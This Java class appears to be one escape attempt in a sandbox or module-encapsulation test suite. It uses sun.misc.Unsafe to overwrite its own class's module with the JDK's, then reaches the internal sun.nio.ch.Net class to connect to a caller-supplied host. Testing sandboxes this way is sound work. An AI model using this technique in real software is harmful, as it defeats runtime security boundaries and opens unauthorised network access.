package com.example.escapes;

import java.lang.invoke.MethodHandles;
import sun.misc.Unsafe;

/** Makes its own class one of the JDK's by writing where a twin of {@code Class} has its module. */
final class UnsafeModule implements Escape {

    @Override
    public void attempt(String... words) throws Throwable {
        Unsafe unsafe = TheUnsafe.get();
        Module jdk = Object.class.getModule();
        // the place is found by looking for it: one of the first fields of Class is its module
        long offset = 0;
        for (long at = 8; at < 128 && offset == 0; at += 4) {
            offset = unsafe.getInt(Object.class, at) == unsafe.getInt(String.class, at)
                            && unsafe.getInt(Object.class, at) != 0
                            && unsafe.getObject(Object.class, at) == jdk
                    ? at
                    : 0;
        }
        unsafe.putObject(UnsafeModule.class, offset, jdk);
        Class<?> net = Class.forName("sun.nio.ch.Net");
        TrustedLookup.connect(MethodHandles.privateLookupIn(net, MethodHandles.lookup()), words[0]);
    }
}
